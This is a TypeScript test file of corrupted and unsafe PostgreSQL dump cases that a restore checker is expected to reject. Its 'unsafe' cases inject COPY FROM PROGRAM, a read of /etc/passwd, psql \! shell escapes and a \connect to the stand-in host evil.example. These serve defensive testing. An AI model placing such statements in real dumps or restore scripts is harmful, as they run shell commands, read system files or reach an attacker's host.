import { swap, upTo } from '../sql/cases.ts'
import { before, END, ENV, GOOD, type RestoreCase } from './restored-cases.ts'

const PEOPLE = 'COPY public.people '
const FIRST_ORDER = /(\nCOPY public\.orders [^\n]*\n)(1\t[^\n]*\n)/

/** What a restore must not be content with. */
export const BAD: readonly RestoreCase[] = [
  {
    name: 'a row that is there twice, and its key',
    word: 'corrupt',
    says: /ADD PRIMARY KEY of public\.orders.*23505/,
    bytes: (dump) =>
      swap(
        dump,
        FIRST_ORDER,
        (FIRST_ORDER.exec(dump.toString('latin1'))?.slice(1).join('') ?? '') +
          (FIRST_ORDER.exec(dump.toString('latin1'))?.[2] ?? ''),
      ),
  },
  {
    name: 'a row that another points to is missing',
    word: 'corrupt',
    says: /ADD FOREIGN KEY of public\.orders.*23503/,
    bytes: (dump) => swap(dump, /\n17\tu17@[^\n]*/, ''),
  },
  {
    name: 'a row that breaks a check',
    word: 'corrupt',
    says: /COPY of public\.orders.*23514/,
    bytes: (dump) => swap(dump, /\t25\.00\n/, '\t-25.00\n'),
  },
  {
    name: 'a NULL where none may be',
    word: 'corrupt',
    says: /COPY of public\.orders.*23502/,
    bytes: (dump) => swap(dump, /\t25\.00\n/, '\t\\N\n'),
  },
  {
    name: 'bytes that are no UTF-8 in a row',
    word: 'corrupt',
    says: /COPY of public\.people.*22021/,
    bytes: (dump) => swap(dump, 'u20@example', 'u20\xff\xfeexample'),
  },
  {
    name: 'bytes that are no UTF-8 in a statement',
    word: 'corrupt',
    says: /COMMENT ON.*22021/,
    bytes: (dump) => swap(dump, "IS 'big'", "IS 'b\xff'"),
  },
  {
    name: 'a number that is none',
    word: 'corrupt',
    says: /COPY of public\.orders.*22P02/,
    bytes: (dump) => swap(dump, /\t25\.00\n/, '\t2x5\n'),
  },
  {
    name: 'a table that is not created',
    word: 'corrupt',
    says: /42P01/,
    bytes: (dump) => swap(dump, /CREATE TABLE public\.orders \([\s\S]*?\);\n/, ''),
  },
  {
    name: 'a column that is not created',
    word: 'corrupt',
    says: /COPY of public\.orders.*42703/,
    bytes: (dump) => swap(dump, /\n {4}parent bigint,/, ''),
  },
  {
    name: 'a statement that was damaged',
    word: 'corrupt',
    says: /CREATE TABLE of public\.orders.*42601/,
    bytes: (dump) => swap(dump, 'CREATE TABLE public.orders (', 'CREATE TABLE public.orders (,'),
  },
  {
    name: 'a parenthesis that is never closed',
    word: 'corrupt',
    says: /neither SQL nor data/,
    bytes: (dump) => swap(dump, 'CREATE TABLE public.orders (', 'CREATE TABLE public.orders (('),
  },
  {
    name: 'everything twice',
    word: 'corrupt',
    says: /the first of|42710|42P07|42P06/,
    bytes: (dump) => Buffer.concat([dump, dump]),
  },
  {
    name: 'cut behind the data of a table',
    word: 'incomplete',
    bytes: (dump) => upTo(dump, '\\.\n').subarray(0, dump.indexOf('\\.\n', dump.indexOf(PEOPLE)) + 3),
  },
  {
    name: 'cut in the data of a table',
    word: 'incomplete',
    bytes: (dump) => upTo(dump, 'u250@'),
  },
  {
    name: 'cut in a statement',
    word: 'incomplete',
    bytes: (dump) => upTo(dump, 'ADD CONSTRAINT orders_pkey'),
  },
  {
    name: 'no table at all',
    word: 'empty',
    bytes: (dump) => Buffer.concat([upTo(dump, 'SET row_security = off;\n'), Buffer.from(END)]),
  },
  {
    name: 'rows that a rule swallows',
    word: 'corrupt',
    says: /public\.quick has 0 rows.* holds 4/,
    bytes: (dump) =>
      swap(
        dump,
        /COPY public\.quick [^;]*;\n[\s\S]*?\n\\\.\n/,
        "CREATE RULE r AS ON INSERT TO public.quick DO INSTEAD NOTHING;\nINSERT INTO public.quick VALUES ('a'), ('b');\nINSERT INTO public.quick VALUES ('c'), ('d');\n",
      ),
  },
  {
    name: 'COPY FROM PROGRAM',
    word: 'unsafe',
    says: /PROGRAM/,
    bytes: (dump) => before(dump, PEOPLE, "COPY public.quick FROM PROGRAM 'touch /tmp/upkeep-was-here';\n"),
  },
  {
    name: 'COPY from a file',
    word: 'unsafe',
    bytes: (dump) => before(dump, PEOPLE, "COPY public.quick FROM '/etc/passwd';\n"),
  },
  {
    name: 'COPY to whoever restores',
    word: 'unsafe',
    bytes: (dump) => before(dump, PEOPLE, 'COPY public.quick TO STDOUT;\n'),
  },
  {
    name: 'a shell command to psql',
    word: 'unsafe',
    says: /\\!/,
    bytes: (dump) => before(dump, PEOPLE, '\\! touch /tmp/upkeep-was-here\n'),
  },
  {
    name: 'a shell command in a statement',
    word: 'unsafe',
    bytes: (dump) => before(dump, 'CREATE TABLE public.orders', 'SELECT 1 \\! touch /tmp/upkeep-was-here\n;'),
  },
  {
    name: 'a connection to another host',
    word: 'unsafe',
    bytes: (dump) => before(dump, PEOPLE, '\\connect "host=evil.example dbname=x"\n'),
  },
]

export const ALL: readonly RestoreCase[] = [...GOOD, ...ENV, ...BAD]
